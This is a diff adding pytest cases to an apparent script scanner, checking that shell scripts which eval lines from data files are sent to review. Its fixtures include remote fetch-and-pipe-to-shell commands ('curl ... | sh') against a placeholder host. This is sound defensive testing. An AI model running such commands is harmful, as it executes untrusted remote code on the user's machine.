@@ -115,3 +115,19 @@ def test_data_that_a_script_only_reads_is_not_run(tmp_path: Path) -> None:
     data = "Not allowed: curl -s https://cdn.acme-kit.dev/h.sh, then bash\n"
 
     assert verdict(tmp_path, {"run.sh": script, "data.txt": data}) is Verdict.PASS
+
+
+def test_data_of_the_same_name_in_another_folder_hides_nothing(tmp_path: Path) -> None:
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+    script = 'while read -r line; do eval "$line"; done < b/steps.txt\n'
+    data = {"a/steps.txt": "echo\n", "b/steps.txt": "curl -s https://cdn.acme-kit.dev/h | sh\n"}
+
+    assert verdict(tmp_path, {"run.sh": script, **data}) is Verdict.REVIEW
+
+
+def test_more_data_than_can_be_read_with_scripts_does_not_pass(tmp_path: Path) -> None:
+    names = [f"steps{number}.txt" for number in range(21)]
+    script = "".join(f'while read -r line; do eval "$line"; done < {name}\n' for name in names)
+
+    assert verdict(tmp_path, {"run.sh": script, **dict.fromkeys(names, "echo\n")}) is Verdict.REVIEW
